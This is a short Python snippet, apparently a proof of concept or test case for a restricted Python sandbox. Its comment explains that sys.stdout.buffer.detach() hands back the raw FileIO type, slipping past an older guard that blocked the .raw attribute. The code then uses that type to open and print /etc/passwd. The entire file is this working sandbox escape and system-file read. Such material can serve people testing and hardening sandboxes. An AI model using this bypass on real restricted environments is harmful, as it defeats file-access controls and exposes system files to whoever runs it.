# sys.stdout.buffer.detach() hands out the raw io.FileIO (not .raw, which the old guard refused), whose type opens files
import sys

FileIO = type(sys.stdout.buffer.detach())
print(FileIO("/etc/passwd").read(), file=sys.stderr)
